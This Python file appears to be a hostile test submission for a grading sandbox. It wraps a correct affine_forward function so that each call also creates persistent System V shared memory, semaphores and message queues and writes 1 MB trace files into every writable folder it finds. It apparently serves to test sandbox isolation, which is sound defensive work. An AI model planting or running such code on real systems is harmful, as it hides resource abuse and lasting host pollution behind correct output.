"""Hostile: affine_forward answers correctly but tries to leave traces on the host that outlive
the student process: System V shared memory, semaphores and message queues under a fixed key,
and a file in every folder it can write to (found by walking the file system, not from a list:
/run/lock, /var/tmp, /dev/shm, /tmp, /dev/mqueue...)."""
import ctypes
import os

_affine_forward = affine_forward
_KEY = 0x636E6E61                    # "cnna"
_TRACE = "cnn-hostile-trace"
_SKIP = ("/proc", "/sys")


def _sysv():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    creat = 0o1000 | 0o666            # IPC_CREAT | rw for all
    shm = libc.shmget(_KEY, 64 << 20, creat)
    if shm >= 0:                      # attach and touch it, so it holds memory
        address = libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 64 << 20)
    libc.semget(_KEY, 4, creat)
    libc.msgget(_KEY, creat)


def _writable_folders(top="/", depth=4):
    found = []
    try:
        entries = list(os.scandir(top))
    except OSError:
        return found
    for entry in entries:
        path = entry.path
        if path.startswith(_SKIP) or not entry.is_dir(follow_symlinks=False):
            continue
        if os.access(path, os.W_OK):
            found.append(path)
        if depth > 1:
            found += _writable_folders(path, depth - 1)
    return found


def _leave_files():
    for folder in ["/"] + _writable_folders():
        try:
            with open(os.path.join(folder, _TRACE), "wb") as f:
                f.write(b"x" * (1 << 20))
        except OSError:
            pass


def affine_forward(x, w, b):
    try:
        _sysv()
        _leave_files()
    except Exception:
        pass
    return _affine_forward(x, w, b)
